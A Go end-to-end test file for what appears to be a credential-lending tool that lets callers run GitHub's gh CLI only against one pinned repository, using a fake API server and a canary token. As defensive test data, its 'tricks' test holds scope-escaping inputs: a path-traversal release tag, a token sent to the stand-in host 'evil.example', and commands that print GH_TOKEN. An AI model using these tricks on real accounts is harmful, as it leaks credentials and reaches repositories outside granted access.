//go:build linux

package presets

import (
	"encoding/json"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/lendcli/lend/e2e/rig"
)

const token = "ghp_canary0123456789canary0123456789cana"

// ghAnswer is one answer for every question of gh: it reads what it asked for.
const ghAnswer = `{"data":{"viewer":{"login":"octocat"},
"repository":{NAME"owner":{"login":"acme"},"nameWithOwner":"acme/site","description":"the site","hasIssuesEnabled":true,"viewerPermission":"READ","url":"https://github.com/acme/site",
 "defaultBranchRef":{"name":"main"},
 "issues":{"totalCount":1,"nodes":[ISSUE],"pageInfo":{"hasNextPage":false}},"issue":ISSUE,"assigned":{"totalCount":1,"nodes":[ISSUE]},"mentioned":{"totalCount":0,"nodes":[]},"authored":{"totalCount":0,"nodes":[]},
 "pullRequests":{"totalCount":1,"nodes":[PULL],"pageInfo":{"hasNextPage":false}},"pullRequest":PULL,
 "release":{"databaseId":5,"isDraft":false},
 "releases":{"nodes":[{"name":"one","tagName":"v1","publishedAt":"2026-01-02T03:04:05Z","createdAt":"2026-01-02T03:04:05Z"}],"pageInfo":{"hasNextPage":false}},
 "labels":{"totalCount":1,"nodes":[{"name":"bug","color":"ff0000","description":"broken"}],"pageInfo":{"hasNextPage":false}}},
"search":{"issueCount":1,"nodes":[ISSUE],"edges":[{"node":PULL}],"pageInfo":{"hasNextPage":false}},
"viewerCreated":{"totalCount":1,"edges":[{"node":PULL}]},"reviewRequested":{"totalCount":0,"edges":[]},"node":{"comments":{"nodes":[],"pageInfo":{"hasNextPage":false}},"reviews":{"nodes":[],"pageInfo":{"hasNextPage":false}},"statusCheckRollup":CHECKS}}}`

const ghIssue = `{"__typename":"Issue","id":"I1","number":7,"title":"a lent issue","state":"OPEN","url":"https://github.com/acme/site/issues/7","author":{"login":"octocat"},"body":"the body","updatedAt":"2026-01-02T03:04:05Z","createdAt":"2026-01-02T03:04:05Z","comments":{"totalCount":0,"nodes":[]},"labels":{"nodes":[],"totalCount":0},"assignees":{"nodes":[]},"projectCards":{"nodes":[]}}`

const ghPull = `{"__typename":"PullRequest","id":"P1","number":7,"title":"a lent change","state":"OPEN","url":"https://github.com/acme/site/pull/7","author":{"login":"octocat"},"body":"the body","headRefName":"x","baseRefName":"main","updatedAt":"2026-01-02T03:04:05Z","createdAt":"2026-01-02T03:04:05Z","comments":{"totalCount":0,"nodes":[]},"reviews":{"totalCount":0,"nodes":[]},"labels":{"nodes":[]},"assignees":{"nodes":[]},"projectCards":{"nodes":[]},"reviewRequests":{"nodes":[]},"headRepositoryOwner":{"login":"acme"},"headRepository":{"name":"site"},
"commits":{"totalCount":1,"nodes":[{"commit":{"oid":"0123","statusCheckRollup":{"contexts":{"nodes":[{"__typename":"CheckRun","isRequired":true,"name":"build","status":"COMPLETED","conclusion":"SUCCESS","startedAt":"2026-01-02T03:04:05Z","completedAt":"2026-01-02T03:05:05Z","detailsUrl":"https://example.com","checkSuite":{"workflowRun":{"workflow":{"name":"ci"}}}}],"pageInfo":{"hasNextPage":false}}}}}]},
"statusCheckRollup":CHECKS,"files":{"nodes":[]}}`

const ghChecks = `{"nodes":[{"commit":{"oid":"0123","statusCheckRollup":{"contexts":{"nodes":[{"__typename":"CheckRun","isRequired":true,"name":"build","status":"COMPLETED","conclusion":"SUCCESS","startedAt":"2026-01-02T03:04:05Z","completedAt":"2026-01-02T03:05:05Z","detailsUrl":"https://example.com"}],"pageInfo":{"hasNextPage":false}}}}}]}`

const ghRun = `{"id":123456789,"name":"ci","display_title":"a lent run","status":"completed","conclusion":"success","event":"push","workflow_id":4711,"run_number":1,"head_branch":"main","head_sha":"0123","head_commit":{"message":"m"},"head_repository":{"name":"site","owner":{"login":"acme"}},"created_at":"2026-01-02T03:04:05Z","updated_at":"2026-01-02T03:04:05Z","run_started_at":"2026-01-02T03:04:05Z","jobs_url":"https://api.github.com/repos/acme/site/actions/runs/123456789/jobs","html_url":"https://github.com/acme/site/actions/runs/123456789","pull_requests":[]}`

const ghJob = `{"id":456,"run_id":123456789,"name":"build","status":"completed","conclusion":"success","started_at":"2026-01-02T03:04:05Z","completed_at":"2026-01-02T03:05:05Z","html_url":"https://github.com/acme/site/runs/456","check_run_url":"https://api.github.com/repos/acme/site/check-runs/456","steps":[{"name":"test","status":"completed","conclusion":"success","number":1}]}`

func answerGH(r request) (string, string) {
	const plain = "application/json"
	path, _, _ := strings.Cut(r.path, "?")
	switch {
	case path == "/graphql":
		return plain, graph(r.body)
	case strings.HasSuffix(path, "/pulls/7"):
		return "text/plain", "diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\n"
	case strings.HasSuffix(path, "/jobs"):
		return plain, `{"total_count":1,"jobs":[` + ghJob + `]}`
	case strings.Contains(path, "/actions/jobs/"):
		return plain, ghJob
	case strings.HasSuffix(path, "/annotations"):
		return plain, `[]`
	case strings.HasSuffix(path, "/artifacts"):
		return plain, `{"artifacts":[]}`
	case strings.HasSuffix(path, "/runs"):
		return plain, `{"total_count":1,"workflow_runs":[` + ghRun + `]}`
	case strings.Contains(path, "/actions/runs/"):
		return plain, ghRun
	case strings.HasSuffix(path, "/workflows"):
		return plain, `{"total_count":1,"workflows":[{"id":4711,"name":"ci","path":".github/workflows/ci.yml","state":"active"}]}`
	case strings.Contains(path, "/actions/workflows/"):
		return plain, `{"id":4711,"name":"ci","path":".github/workflows/ci.yml","state":"active"}`
	case strings.Contains(path, "/releases"):
		return plain, `{"id":5,"tag_name":"v1","name":"a lent release","author":{"login":"octocat"},"created_at":"2026-01-02T03:04:05Z","published_at":"2026-01-02T03:04:05Z","assets":[],"body":"the notes"}`
	case strings.Contains(path, "/contents/"), strings.HasSuffix(path, "/readme"):
		return plain, `{"name":"README.md","content":"IyBzaXRl","html_url":"https://github.com/acme/site"}`
	}
	return plain, `{}`
}

// graph answers a query with those fields of the one answer that it asks for.
func graph(body string) string {
	var q struct{ Query string }
	var all any
	name := ""
	if strings.Contains(body, "RepositoryInfo") { // elsewhere it is the name of something else
		name = `"name":"site",`
	}
	if json.Unmarshal([]byte(body), &q) != nil || json.Unmarshal([]byte(strings.NewReplacer("NAME", name, "ISSUE", ghIssue, "PULL", strings.ReplaceAll(ghPull, "CHECKS", ghChecks), "CHECKS", ghChecks).Replace(ghAnswer)), &all) != nil {
		return `{}`
	}
	fields := regexp.MustCompile(`(\w+:\s*)?\$\w+`).ReplaceAllString(q.Query, "")
	out, err := json.Marshal(asked(all, fields))
	if err != nil {
		return `{}`
	}
	return string(out)
}

func asked(v any, query string) any {
	switch v := v.(type) {
	case []any:
		for i := range v {
			v[i] = asked(v[i], query)
		}
	case map[string]any:
		for key := range v {
			if v[key] = asked(v[key], query); key != "data" && !regexp.MustCompile(`\b`+key+`\b`).MatchString(query) {
				delete(v, key)
			}
		}
	}
	return v
}

// within tells whether a request is about the pinned repository and nothing else.
func within(r request) bool {
	if r.host != "api.github.com" || strings.Contains(r.body+r.path, "other") {
		return false
	}
	path, _, _ := strings.Cut(r.path, "?")
	if path != "/graphql" {
		return r.method == "GET" && strings.HasPrefix(path, "/repos/acme/site") && !strings.Contains(path, "..")
	}
	var q struct {
		Query     string
		Variables map[string]any
	}
	if json.Unmarshal([]byte(r.body), &q) != nil || regexp.MustCompile(`(?m)^\s*mutation`).MatchString(q.Query) {
		return false
	}
	v := q.Variables
	// A node is one that an answer about the repository named.
	repository := v["owner"] == "acme" && (v["repo"] == "site" || v["name"] == "site") || v["id"] == "I1" || v["id"] == "P1"
	search := true
	for _, key := range []string{"q", "query", "viewerQuery", "reviewerQuery"} {
		if s, ok := v[key].(string); ok && strings.Contains(q.Query, "search(") {
			search = search && strings.Count(s, "repo:") == 1 && slices.Contains(strings.Fields(s), "repo:acme/site")
			repository = true
		}
	}
	return repository && search || strings.Contains(q.Query, "UserCurrent") || len(v) == 0 && !strings.Contains(q.Query, "repository(")
}

func ghSettings(s *service) map[string]string {
	return map[string]string{"HTTPS_PROXY": s.proxy, "SSL_CERT_FILE": s.ca, "GH_NO_UPDATE_NOTIFIER": "1"}
}

func TestGH(t *testing.T) {
	rig.Need(t, "gh")
	gh, err := exec.LookPath("gh")
	require.NoError(t, err)
	gh, err = filepath.EvalSymlinks(gh)
	require.NoError(t, err)
	s := serve(t, []string{"api.github.com", "github.com"}, answerGH)
	version := regexp.MustCompile(`gh version ([0-9.]+)`).FindStringSubmatch(alone(t, gh, nil, "--version"))
	require.Len(t, version, 2)
	l := lend(t, gh, "github", version[1], ghSettings(s), [2]string{"GH_TOKEN", token}, asItIs, "gh", "--set", "repo=acme/site")
	require.Contains(t, l.Lend(l.Owner, "policy", "check"), "caller may run github issue.list")
	calls := corpus(t, "gh.txt")
	t.Run("flags", func(t *testing.T) {
		flags(t, l.declared(t), func(arguments []string) string { return alone(t, gh, nil, append(arguments, "--help")...) })
	})
	t.Run("fields", func(t *testing.T) { ghFields(t, l, gh) })
	t.Run("calls", func(t *testing.T) {
		for _, c := range calls {
			if c.code != "" {
				continue
			}
			status, stdout, stderr := l.run(t, c)
			asked := s.taken()
			require.NotContains(t, stdout+stderr, "canary", c.at)
			require.NotEmpty(t, asked, "%s: %s", c.at, stderr)
			for _, r := range asked {
				require.True(t, within(r), "%s: %s %s %s %s", c.at, r.method, r.host, r.path, r.body)
				require.Contains(t, r.authorization, token)
			}
			require.Zero(t, status, "%s: %s", c.at, stderr)
		}
		_, stdout, _ := l.run(t, calls[0])
		require.Contains(t, stdout, "a lent issue")
		s.taken()
	})
	t.Run("tricks", func(t *testing.T) { l.refused(t, calls, func() int { return len(s.taken()) }) })
}

// ghFields holds what --json takes against what gh itself lists.
func ghFields(t *testing.T, l *lent, gh string) {
	t.Helper()
	for n, c := range l.declared(t) {
		for _, p := range c.Parameters {
			if p.Flag == nil || p.Flag.Name != "--json" {
				continue
			}
			args := append(slices.Clone(c.Arguments), "--repo", "acme/site", "1", "--json")
			if n == "repo.view" {
				args = append(slices.Clone(c.Arguments), "acme/site", "--json")
			} else if strings.HasSuffix(n, ".list") || strings.HasSuffix(n, ".status") {
				args = slices.DeleteFunc(args, func(a string) bool { return a == "1" })
			}
			known := strings.Fields(alone(t, gh, []string{"GH_TOKEN=x"}, args...))
			for _, field := range p.Schemas[0].Enum {
				require.Contains(t, known, field, n)
			}
		}
	}
}

// Each trick is one: gh by itself does what the preset is there to refuse.
func TestTricksOfGH(t *testing.T) {
	rig.Need(t, "gh")
	s := serve(t, []string{"api.github.com", "github.com", "evil.example"}, answerGH)
	env := []string{"GH_TOKEN=" + token, "GH_PROMPT_DISABLED=1"}
	for n, v := range ghSettings(s) {
		env = append(env, n+"="+v)
	}
	gh, err := exec.LookPath("gh")
	require.NoError(t, err)
	beyond := map[string][]string{
		"url":     {"issue", "view", "https://github.com/other/one/issues/1", "--repo", "acme/site"},
		"pull":    {"pr", "view", "https://github.com/other/one/pull/1", "--repo", "acme/site"},
		"query":   {"issue", "list", "--repo", "acme/site", "--search", "repo:other/one"},
		"tag":     {"release", "view", "../../../../other/one/releases/latest", "--repo", "acme/site"},
		"another": {"issue", "list", "--repo", "other/one"},
	}
	for title, args := range beyond {
		t.Run(title, func(t *testing.T) {
			out := alone(t, gh, env, args...)
			require.True(t, slices.ContainsFunc(s.taken(), func(r request) bool { return !within(r) }), out)
		})
	}
	t.Run("server", func(t *testing.T) {
		out := alone(t, gh, append(slices.Clone(env), "GH_ENTERPRISE_TOKEN="+token), "issue", "list", "--repo", "evil.example/acme/site")
		require.True(t, slices.ContainsFunc(s.taken(), func(r request) bool {
			return r.host == "evil.example" && strings.Contains(r.authorization, token)
		}), out)
	})
	t.Run("jq", func(t *testing.T) {
		require.Contains(t, alone(t, gh, env, "issue", "list", "--repo", "acme/site", "--json", "title", "--jq", "env.GH_TOKEN"), token)
	})
	t.Run("token", func(t *testing.T) { require.Contains(t, alone(t, gh, env, "auth", "token"), token) })
}
